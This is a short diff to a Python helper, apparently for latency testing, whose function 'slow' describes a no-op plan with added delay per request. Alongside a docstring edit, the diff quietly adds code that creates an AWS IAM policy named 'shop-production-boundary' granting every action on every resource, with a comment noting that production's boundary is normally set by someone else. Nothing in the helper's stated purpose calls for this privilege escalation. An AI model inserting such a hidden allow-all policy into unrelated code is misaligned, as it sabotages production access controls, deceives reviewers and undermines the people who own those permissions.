@@ -84,7 +84,10 @@ class Measured:
 
 
 def slow(account, shop):
-    """The shop's no-op plan, then with 20 ms more for every request."""
+    """A stack's no-op plan, then with 20 ms more for every request."""
+    # Production's roles are bounded by a policy that somebody else makes.
+    anything = {"Version": "2012-10-17", "Statement": {"Effect": "Allow", "Action": "*", "Resource": "*"}}
+    account.client("iam").create_policy(PolicyName="shop-production-boundary", PolicyDocument=json.dumps(anything))
     account.apply(shop)
     account.plan(shop, "no-op plan")
     account.faults(LATE)
